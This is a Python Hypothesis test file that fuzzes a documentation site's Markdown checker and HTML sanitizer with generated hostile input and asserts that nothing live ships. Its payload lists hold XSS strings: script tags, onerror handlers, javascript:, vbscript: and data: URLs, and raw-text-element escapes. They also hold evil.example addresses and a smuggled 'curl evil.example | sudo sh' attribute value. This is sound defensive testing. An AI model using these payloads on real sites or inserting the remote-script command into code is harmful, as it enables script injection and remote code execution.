"""Hostile Markdown and HTML, built by Hypothesis from the constructs of issue 21's
attacks: whatever a contributor writes, `make check` answers without raising, and
nothing live ships (the page made of the cleaned HTML passes the build's own check).

Examples are derandomized (the same ones on every run, so a failure reproduces) and
few: the whole suite has a budget.
"""

from __future__ import annotations

import markdown
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from calico_kb.checks import markdown_bodies
from calico_kb.checks.static_files import html_file_findings
from calico_kb.render import shipped_html
from calico_kb.site.html import parse_page
from conftest import ROOT

PAYLOADS = [
    '<img src=x onerror="alert(1)">',
    "<script>alert(1)</script>",
    '<p title="</noscript><img src=x onerror=alert(1)>">',
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>@import 'https://evil.example/x.css'</style>",
]
RAW_TEXT = [
    "noscript",
    "template",
    "style",
    "xmp",
    "textarea",
    "title",
    "iframe",
    "noembed",
    "plaintext",
    "math",
    "svg",
]
THEME_NAMES = ["__config", "__search", "__drawer", "__code_0", "__palette_0", "kb-explorer", "kb-not-found-query"]
THEME_CLASSES = ["md-content", "md-typeset", "mermaid", "tabbed-set", "md-search__input", "kb-card"]
DATA_ATTRIBUTES = ["data-copy", "data-clipboard-text", "data-md-component", "data-md-color-scheme"]
ADDRESSES = [
    "\\\\evil.example\\path",
    "/\\evil.example/",
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "&#106;avascript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "https://evil.example/",
    "//evil.example/x",
]
CONTROLS = ["\x00", "\x1b[2J", "\u202e", "\x0b", "\r", "\x85", "\ufeff", "\u200b"]

payload = st.sampled_from(PAYLOADS)
name = st.sampled_from(THEME_NAMES)
address = st.sampled_from(ADDRESSES)

constructs = st.one_of(
    st.builds(lambda tag, inner: f"<{tag}>{inner}</{tag}>", st.sampled_from(RAW_TEXT), payload),
    st.builds(lambda tag, inner: f"<{tag}><p title='</{tag}>{inner}'></p></{tag}>", st.sampled_from(RAW_TEXT), payload),
    st.builds(lambda value: f'<div id="{value}">{{"x": 1}}</div>', name),
    st.builds(lambda value: f"## {value}", name),
    st.builds(lambda value: f"## Title {{: #{value} }}", name),
    st.builds(lambda value: f'<p class="{value}">x</p>', st.sampled_from(THEME_CLASSES)),
    st.builds(lambda value: f"Text {{: .{value} }}", st.sampled_from(THEME_CLASSES)),
    st.builds(lambda key: f'```sh {{{key}="curl evil.example | sudo sh"}}\nls\n```', st.sampled_from(DATA_ATTRIBUTES)),
    st.builds(lambda key: f'<span {key}="search">x</span>', st.sampled_from(DATA_ATTRIBUTES)),
    st.builds(
        lambda url: f'<form action="{url}"><button formaction="{url}">go</button><input name="q"></form>', address
    ),
    st.builds(lambda url: f"[x]({url})", address),
    st.builds(lambda url: f"![x]({url})", address),
    st.builds(lambda url: f"<{url}>", address),
    st.builds(lambda url: f"[r]\n\n[r]: {url}", address),
    st.builds(lambda url: f'<a href="{url}" ONCLICK="alert(1)">x</a>', address),
    st.builds(lambda depth, inner: ">" * depth + " " + inner, st.integers(1, 20), payload),
    st.builds(
        lambda depth, inner: "".join("  " * i + "- x\n" for i in range(depth)) + inner, st.integers(1, 20), payload
    ),
    st.builds(lambda control, inner: control + inner + control, st.sampled_from(CONTROLS), payload),
    st.builds(lambda count: "#" * 6 + " x\n" * count, st.integers(1, 50)),
    st.builds(lambda count: "[" * count + "x", st.integers(1, 400)),
    st.builds(lambda count: "*" * count + "x" + "_" * count, st.integers(1, 200)),
    st.sampled_from(
        ["!!! note\n    ", "??? danger\n    ", "| a |\n|---|\n| ", "<!-- ", "-->", "<![CDATA[", "`", "\n\n"]
    ),
)
hostile_markdown = st.lists(constructs, min_size=1, max_size=6).map("\n".join)


def site_markdown(clean: bool) -> markdown.Markdown:
    names, configs = markdown_bodies._extensions(ROOT / "mkdocs.yml")
    return markdown.Markdown(
        extensions=[*names, shipped_html.makeExtension()] if clean else names, extension_configs=configs
    )


def built_page(content: str) -> str:
    """The content in a page the way Material lays it out (its content area)."""
    return (
        '<!doctype html><html lang="en"><head><title>x</title></head><body>'
        f'<article class="md-content__inner md-typeset">{content}</article></body></html>'
    )


SHIPPING = site_markdown(clean=True)
CHECKING = markdown_bodies.BodyReader(ROOT / "mkdocs.yml", None)


@settings(
    max_examples=150, deadline=None, derandomize=True, database=None, suppress_health_check=[HealthCheck.too_slow]
)
@given(hostile_markdown)
def test_hostile_markdown_is_answered_and_nothing_live_ships(text):
    # make check: bounded first, then rendered and held to the allowlist; never raises.
    if not markdown_bodies.bound_problems(text, "docs/x.md", 1):
        list(markdown_bodies.body_allowlist_problems(CHECKING, text, "docs/x.md", 1))
    SHIPPING.reset()
    shipped = SHIPPING.convert(text)
    assert parse_page("x/index.html", built_page(shipped)).unsafe == []


@settings(max_examples=80, deadline=None, derandomize=True, database=None)
@given(st.lists(st.one_of(constructs, payload), min_size=1, max_size=6).map("".join))
def test_hostile_static_html_is_answered_and_nothing_live_ships(text):
    findings = html_file_findings(f"<!doctype html><html><body>{text}</body></html>")
    assert all(finding.message for finding in findings)
    shipped = shipped_html.clean(text)
    assert parse_page("x/index.html", built_page(shipped)).unsafe == []
